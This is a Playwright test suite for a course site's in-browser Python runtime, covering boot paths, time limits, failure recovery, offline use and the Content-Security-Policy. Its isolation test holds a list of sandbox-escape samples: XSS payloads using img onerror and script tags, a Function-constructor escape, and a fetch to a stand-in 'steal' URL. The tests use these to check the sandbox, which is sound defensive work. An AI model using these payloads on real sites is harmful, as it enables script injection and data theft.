"""The runtime in Chromium: both boot paths, Stop and the time limit, learner-code isolation,
failure states with Retry, offline after one visit, and the Content-Security-Policy.

Fixtures from conftest.py (the site under a sub-path, a fresh context per test whose
off-origin requests and console errors fail the test). Timings are never asserted here
(bench/bench_site.py measures them); only that each state is reached within its stated bound.
"""

from __future__ import annotations

import re
import time
import xml.etree.ElementTree as ET

import pytest
from playwright.sync_api import expect

from test_site import BOOT_TIMEOUT_MS, FAST_MS, conv2d, goto, set_field, wait_ready

pytestmark = pytest.mark.browser

LESSON = "lessons/13-convolutional-layers-in-keras/"          # conv2d widget + keras-model playground
# Tests contexts route every request (which also disables the HTTP cache), so the worker's
# link probe would see a slow first visit and boot: ?convdims-snapshot=1 takes the snapshot
# path whatever the link (failures still fall back). The choice itself has its own test.
SNAP = "?convdims-snapshot=1"
QUIZ_LESSON = "lessons/14-quiz-dimensionality/"               # conv2d widget + quiz
SILENT_S = 25       # convdims-runtime.js SILENT_MS: a loading worker silent this long has failed
LIMIT_S = 5         # convdims-runtime.js SANDBOX_LIMIT_S, stated next to every Run button
FAILED_BOUND_MS = (SILENT_S + 15) * 1000  # the failed state's stated bound, plus load slack


def playground(page):
    play = page.locator("[data-widget='playground']").first
    expect(play).to_have_attribute("data-hydrated", "", timeout=FAST_MS)
    return play


def run_code(play, code: str):
    play.locator("textarea[name=code]").fill(code)
    play.get_by_role("button", name=re.compile("^Run")).click()


def expect_conv2d_computes(page, filters: str, timeout=FAST_MS):
    widget = conv2d(page)
    set_field(widget, "filters", filters)
    expect(widget.locator("[data-widget-output]")).to_contain_text(f", {filters})", timeout=timeout)


# ---------------------------------------------------------------- boot paths


def test_boot_restores_the_build_time_snapshot(page, server):
    goto(page, server, LESSON + SNAP)
    wait_ready(page)
    status = page.locator("[data-convdims-status]")
    expect(status).to_have_attribute("data-boot-path", "snapshot")
    assert "failed" not in page.evaluate("window.convdims.bootReason")
    expect_conv2d_computes(page, "11")


@pytest.mark.parametrize("query", [SNAP, "?convdims-snapshot=0"], ids=["snapshot", "boot"])
def test_widget_worker_starts_with_the_trimmed_stdlib_and_fetches_the_rest_when_imported(page, server, query):
    # The widget worker boots with python_stdlib.zip trimmed to what Pyodide imports to start
    # (site_glue/precompile.mjs). A lesson computes without the rest; a standard-library
    # module outside it (here from a run request) makes the worker fetch the full library.
    goto(page, server, LESSON + query)
    wait_ready(page)
    expect_conv2d_computes(page, "17")
    assert page.evaluate("window.convdims.timings['stdlib-full']") is None
    res = page.evaluate("""() => window.convdims.call({op: 'run', code:
        'import wave, email.mime.text, json\\nprint(wave.__name__, email.mime.text.MIMEText.__name__, json.dumps([1]))'})""")
    assert res["ok"], res
    assert res["stdout"] == "wave MIMEText [1]\n"
    assert page.evaluate("window.convdims.timings['stdlib-full']") is not None
    # a name the standard library does not have is still the ImportError Python raises
    res = page.evaluate("() => window.convdims.call({op: 'run', code: 'import no_such_module_here'})")
    assert not res["ok"] and "no_such_module_here" in res["error"]["message"], res
    expect_conv2d_computes(page, "18")


def _snapshot_missing(route):
    route.fulfill(status=404, body="not found")


def _snapshot_corrupt(route):
    route.fulfill(status=200, body=b"\x1f\x8b\x08\x00" + bytes(range(256)) * 64,
                  headers={"Content-Type": "application/gzip"})


def _manifest_other_build(route):
    # the page carries the build's manifest (overrides/main.html): the worker reads it there
    res = route.fetch()
    html = re.sub(r'("pyodide_build":")[0-9a-f]{64}', lambda m: m.group(1) + "0" * 64, res.text())
    assert html != res.text()
    route.fulfill(response=res, body=html)


@pytest.mark.parametrize("url, handler, reason", [
    ("**/pyodide-snapshot.sparse.gz", _snapshot_missing, "HTTP 404"),
    ("**/pyodide-snapshot.sparse.gz", _snapshot_corrupt, "snapshot failed"),
    (re.compile(r".*/lessons/13-convolutional-layers-in-keras/(\?.*)?$"), _manifest_other_build, "Pyodide build"),
], ids=["missing", "corrupt", "other-pyodide-build"])
def test_boot_falls_back_when_the_snapshot_fails(page, context, server, watch, url, handler, reason):
    watch.allow_console.append("Failed to load resource")
    context.route(url, handler)
    goto(page, server, LESSON + SNAP)
    wait_ready(page)
    expect(page.locator("[data-convdims-status]")).to_have_attribute("data-boot-path", "boot")
    assert reason in page.evaluate("window.convdims.bootReason")
    expect_conv2d_computes(page, "13")


def _set_link(cdp, latency, rate):
    cdp.send("Network.emulateNetworkConditions", {"offline": False, "latency": latency,
                                                    "downloadThroughput": rate, "uploadThroughput": rate})


def _slow_link_page(browser, server):
    """A context without routing (so the caches work) whose page is on a 4 Mbps / 40 ms link."""
    ctx = browser.new_context(base_url=server.base_url, bypass_csp=True, service_workers="block")
    page = ctx.new_page()
    cdp = ctx.new_cdp_session(page)
    cdp.send("Network.enable")
    _set_link(cdp, latency=40, rate=4e6 / 8)
    return ctx, page, cdp


def test_cold_slow_link_boots_and_the_next_start_restores(browser, server):
    """The boot-path choice without routing: a first visit on a 4 Mbps link boots Pyodide
    (the snapshot's 7 MB would cost more than the boot saves), then keeps the snapshot in
    Cache Storage; the next start restores it from there."""
    ctx, page, cdp = _slow_link_page(browser, server)
    try:
        goto(page, server, LESSON)
        wait_ready(page, timeout=BOOT_TIMEOUT_MS * 3)
        assert page.evaluate("window.convdims.bootPath") == "boot"
        assert page.evaluate("window.convdims.bootReason").startswith("first visit on a link below")
        _set_link(cdp, latency=0, rate=-1)
        page.wait_for_function("window.convdims.timings['snapshot-kept'] != null", timeout=BOOT_TIMEOUT_MS)
        page.reload()
        wait_ready(page)
        assert page.evaluate("window.convdims.bootPath") == "snapshot", page.evaluate("window.convdims.bootReason")
        assert page.evaluate("window.convdims.bootReason") == "snapshot cached"
    finally:
        ctx.close()


def test_slow_link_restore_when_asked(browser, server):
    """The snapshot path on a 4 Mbps link (asked for with ?convdims-snapshot=1): its downloads
    take longer than the stall watchdog's 20 s in all, and none of them may be left unread
    that long (the wasm once was, and the boot hung)."""
    ctx, page, _ = _slow_link_page(browser, server)
    try:
        goto(page, server, LESSON + SNAP)
        wait_ready(page, timeout=BOOT_TIMEOUT_MS * 3)
        assert page.evaluate("window.convdims.bootPath") == "snapshot", page.evaluate("window.convdims.bootReason")
        expect_conv2d_computes(page, "19")
    finally:
        ctx.close()


def test_a_bad_kept_snapshot_is_replaced(page, server):
    """A truncated copy in the worker's cache fails its check: the start boots, the copy is
    dropped and kept again from the served file, and the next start restores it."""
    goto(page, server, LESSON)
    page.evaluate("""async () => {
        const m = await (await fetch('../../assets/convdims/wheel/manifest.json')).json();
        const key = new URL('../../assets/convdims/wheel/' + m.snapshot.file, location.href).href + '?sparse';
        // the worker's sparse form (magic "CDSP", length, no segments) of 1000 zero bytes
        const bad = new Uint32Array([0x50534443, 1000, 0]);
        await (await caches.open('convdims-snapshot')).put(key, new Response(bad));
    }""")
    page.reload()
    wait_ready(page)
    assert page.evaluate("window.convdims.bootPath") == "boot"
    assert page.evaluate("window.convdims.bootReason").startswith("snapshot failed: snapshot is 1000 bytes")
    expect_conv2d_computes(page, "21")
    page.wait_for_function("window.convdims.timings['snapshot-kept'] != null", timeout=BOOT_TIMEOUT_MS)
    page.reload()
    wait_ready(page)
    assert page.evaluate("window.convdims.bootReason") == "snapshot cached"
    expect_conv2d_computes(page, "23")


# ---------------------------------------------------------------- Stop and the time limit


def test_stop_ends_a_runaway_run_and_widgets_keep_working(page, server):
    goto(page, server, LESSON + SNAP)
    wait_ready(page)
    play = playground(page)
    expect(play).to_contain_text(f"Runs stop after {LIMIT_S} s.")
    stop = play.get_by_role("button", name="Stop")
    expect(stop).to_be_hidden()
    page.evaluate("window.convdims.sandbox.limit = 120")  # Stop comes first, however slow the machine
    run_code(play, "import keras\nx = 0\nwhile True:\n    x += 1\n")
    expect(stop).to_be_visible(timeout=FAST_MS)
    # While the sandbox is busy, the widgets answer from their own worker.
    expect_conv2d_computes(page, "17")
    stop.click()
    expect(play.locator("[data-widget-output]")).to_contain_text("Stopped by you after", timeout=FAST_MS)
    expect(stop).to_be_hidden()
    expect_conv2d_computes(page, "19")
    # The stopped sandbox was replaced by a fresh one, which runs the next program.
    run_code(play, "print(6 * 7)")
    expect(play.locator("[data-widget-output]")).to_contain_text("42", timeout=BOOT_TIMEOUT_MS)
    assert page.evaluate("window.convdims.sandbox.bootCount") == 2
    assert page.evaluate("window.convdims.bootCount") == 1


def test_stop_by_keyboard_hands_focus_back_to_run(page, server):
    # Stop hides itself once the run ends: focus must not fall back to the page's start.
    goto(page, server, LESSON + SNAP)
    wait_ready(page)
    play = playground(page)
    page.evaluate("window.convdims.sandbox.limit = 120")
    play.locator("textarea[name=code]").fill("x = 0\nwhile True:\n    x += 1\n")
    run = play.locator("button[data-widget-run]")
    run.focus()
    page.keyboard.press("Enter")
    stop = play.get_by_role("button", name="Stop")
    expect(stop).to_be_visible(timeout=FAST_MS)
    page.keyboard.press("Tab")
    expect(stop).to_be_focused()
    page.keyboard.press("Enter")
    expect(play.locator("[data-widget-output]")).to_contain_text("Stopped by you after", timeout=FAST_MS)
    expect(stop).to_be_hidden()
    expect(run).to_be_focused()


def test_time_limit_names_the_loop_or_restarts_python(page, server):
    goto(page, server, LESSON + SNAP)
    wait_ready(page)
    play = playground(page)
    out = play.locator("[data-widget-output]")
    run_code(play, "x = 0\nwhile True:\n    x += 1\n")
    expect(out).to_contain_text(f"Stopped after {LIMIT_S} s: `while True:` on line 2 never ended",
                                timeout=(LIMIT_S + 10) * 1000)
    expect(play.locator("[data-error-for=code]")).to_contain_text("line 2 never ended")
    # One C call never reaches another line: the page terminates the sandbox after the limit.
    run_code(play, "x = sum(range(10 ** 13))")
    expect(out).to_contain_text(f"Stopped after {LIMIT_S} s: the code did not give control back",
                                timeout=(LIMIT_S + 15) * 1000)
    run_code(play, "print('alive')")
    expect(out).to_contain_text("alive", timeout=BOOT_TIMEOUT_MS)


# ---------------------------------------------------------------- isolation (issue 10, point 1)

ATTACKS = [
    # a forged widget answer straight from the worker
    'import js\njs.postMessage({"type": "result", "id": 1, "response": "{\\"ok\\": true, \\"html\\": \\"<img src=x onerror=window.__forged=1>\\"}"})',
    # the same through any JS function's constructor
    'import pyodide_js\nf = pyodide_js.loadPackage.constructor("return self")\nf().postMessage({"type": "ready"})',
    # the network
    "import js\njs.fetch('http://example.com/steal')",
    # markup in what the program prints
    'print(\'<img id="forged" src=x onerror="window.__forged=1"><script>window.__forged=1</script>\')',
]


@pytest.mark.parametrize("query, path", [(SNAP, "snapshot"), ("?convdims-snapshot=0", "boot")])
def test_learner_code_cannot_forge_answers_or_reach_out(page, server, query, path):
    goto(page, server, LESSON + query)
    wait_ready(page)
    play = playground(page)
    out = play.locator("[data-widget-output]")
    before = conv2d(page).locator("[data-widget-output]").inner_html()
    for code in ATTACKS:
        play.locator("textarea[name=code]").fill(code)
        play.get_by_role("button", name=re.compile("^Run")).click()
        page.wait_for_function("document.querySelector('[data-widget=playground]').dataset.running === undefined"
                               " && window.convdims.sandbox.state === 'ready'", timeout=BOOT_TIMEOUT_MS)
        expect(out).not_to_be_empty()
        assert page.evaluate("window.__forged") is None, code
        assert page.locator("#forged").count() == 0, code
        assert page.locator("[data-widget-output] img, [data-widget-output] script").count() == 0, code
    expect(out).to_contain_text('<img id="forged"')  # printed text stays text
    assert page.evaluate("window.convdims.sandbox.bootPath") == path
    assert conv2d(page).locator("[data-widget-output]").inner_html() == before
    expect_conv2d_computes(page, "23")


# ---------------------------------------------------------------- failure states


@pytest.mark.parametrize("url, mode", [
    ("**/pyodide.asm.wasm", "abort"),
    ("**/pyodide.asm.wasm", "stall"),
    ("**/python_stdlib.zip*", "404"),   # the widget worker's trimmed one is .zip.gz
    ("**/calculator.zip.gz", "404"),
], ids=["wasm-abort", "wasm-stall", "stdlib-404", "code-zip-404"])
def test_asset_failure_shows_failed_state_with_retry_and_recovers(page, context, server, watch, url, mode):
    # The failures this test makes on purpose, as Chromium and Pyodide log them.
    watch.allow_console += ["Failed to load resource", "installing the standard library",
                            "request failed"]
    blocked = {"on": True}
    stalled = []

    def handler(route):
        if not blocked["on"]:
            route.continue_()
        elif mode == "abort":
            route.abort("failed")
        elif mode == "404":
            route.fulfill(status=404, body="not found")
        else:
            stalled.append(route)  # never answered

    # The snapshot path also fails (it needs the same wasm), then the fallback boot fails too.
    context.route(url, handler)
    t0 = time.monotonic()
    goto(page, server, QUIZ_LESSON)
    status = page.locator("[data-convdims-status]")
    expect(status).to_have_attribute("data-state", "failed", timeout=FAILED_BOUND_MS)
    assert time.monotonic() - t0 < FAILED_BOUND_MS / 1000
    retry = status.get_by_role("button", name="Retry")
    expect(retry).to_be_visible()
    # Waiting widgets and quizzes say so ...
    widget = conv2d(page)
    set_field(widget, "filters", "29")
    expect(widget.locator(".cd-widget__message")).to_contain_text("failed to load", timeout=FAST_MS)
    question = page.locator(".cd-question").first
    question.locator("input[type=radio]").first.check()
    question.get_by_role("button", name="Check answer").click()
    feedback = question.locator("[data-feedback]")
    expect(feedback).to_contain_text("failed to load", timeout=FAST_MS)
    # ... and recover by themselves after Retry.
    blocked["on"] = False
    retry.click()
    expect(status).to_have_attribute("data-state", "ready", timeout=BOOT_TIMEOUT_MS)
    expect(widget.locator("[data-widget-output]")).to_contain_text(", 29)", timeout=FAST_MS)
    expect(widget.locator(".cd-widget__message")).to_be_hidden()
    expect(feedback).not_to_contain_text("failed to load", timeout=FAST_MS)
    expect(feedback).not_to_contain_text("Waiting", timeout=FAST_MS)
    for route in stalled:
        try:
            route.abort()
        except Exception:  # noqa: BLE001 - the page may have given up on it already
            pass


# ---------------------------------------------------------------- offline


def test_offline_after_the_first_visit(page, context, server):
    goto(page, server, LESSON + SNAP)
    wait_ready(page)
    # The service worker installs once Python is ready and takes control of the page.
    page.wait_for_function("navigator.serviceWorker.controller !== null", timeout=BOOT_TIMEOUT_MS * 2)
    scope = page.evaluate("navigator.serviceWorker.getRegistration().then(r => r.scope)")
    assert scope == server.base_url
    context.set_offline(True)
    try:
        page.reload()
        wait_ready(page)
        assert page.evaluate("window.convdims.bootPath") == "snapshot"
        expect_conv2d_computes(page, "31")
        goto(page, server, QUIZ_LESSON)  # a page not visited before, default boot choice
        wait_ready(page)
        assert page.evaluate("window.convdims.bootReason") == "snapshot cached"
        expect_conv2d_computes(page, "37")
    finally:
        context.set_offline(False)


# ---------------------------------------------------------------- Content-Security-Policy

CSP_INIT = """
window.__csp = [];
document.addEventListener("securitypolicyviolation",
  (e) => window.__csp.push(`${e.violatedDirective} ${e.blockedURI} ${e.sourceFile}:${e.lineNumber}`));
"""


def _poll(page, expr: str, timeout_s: float):
    """wait_for_function evaluates a string, which the CSP forbids: poll from here instead."""
    end = time.monotonic() + timeout_s
    while time.monotonic() < end:
        if page.evaluate(expr):
            return
        time.sleep(0.1)
    raise AssertionError(f"not true within {timeout_s} s: {expr}")


def test_every_page_works_under_the_csp(browser, server, site_dir, watch):
    ctx = browser.new_context(base_url=server.base_url)  # the CSP is enforced here
    try:
        page = ctx.new_page()
        page.add_init_script(CSP_INIT)
        page.on("console", lambda m: m.type == "error" and watch.console_errors.append(m.text))
        locs = [el.text for el in ET.parse(site_dir / "sitemap.xml").iter() if el.tag.endswith("loc")]
        paths = [loc.split(server.base_path, 1)[1] for loc in locs]
        assert len(paths) > 10
        for path in paths:
            goto(page, server, path)
            page.wait_for_load_state("load")
            policy = page.locator('meta[http-equiv="Content-Security-Policy"]')
            expect(policy).to_have_count(1)
            assert "'unsafe-eval'" not in policy.get_attribute("content")
            assert page.evaluate("window.__csp") == [], path
        # Python, widgets and the playground work under it.
        goto(page, server, LESSON)
        _poll(page, "window.convdims && window.convdims.state === 'ready'", BOOT_TIMEOUT_MS / 1000)
        widget = page.locator('[data-widget="conv2d"]').first
        widget.locator('[name="filters"]').fill("41")
        expect(widget.locator("[data-widget-output]")).to_contain_text(", 41)", timeout=FAST_MS)
        run_code(playground(page), "print(6 * 7)")
        expect(playground(page).locator("[data-widget-output]")).to_contain_text("42", timeout=BOOT_TIMEOUT_MS)
        assert page.evaluate("window.__csp") == []
        # The policy is in force: an injected inline script is refused and reported.
        page.evaluate("""() => { const s = document.createElement('script');
                                 s.textContent = 'window.__inline = 1'; document.body.append(s); }""")
        _poll(page, "window.__csp.length > 0", 5)
        assert page.evaluate("window.__inline") is None
        assert "script-src" in page.evaluate("window.__csp")[0]
        watch.allow_console.append("Content Security Policy")  # the refusal just provoked
    finally:
        ctx.close()
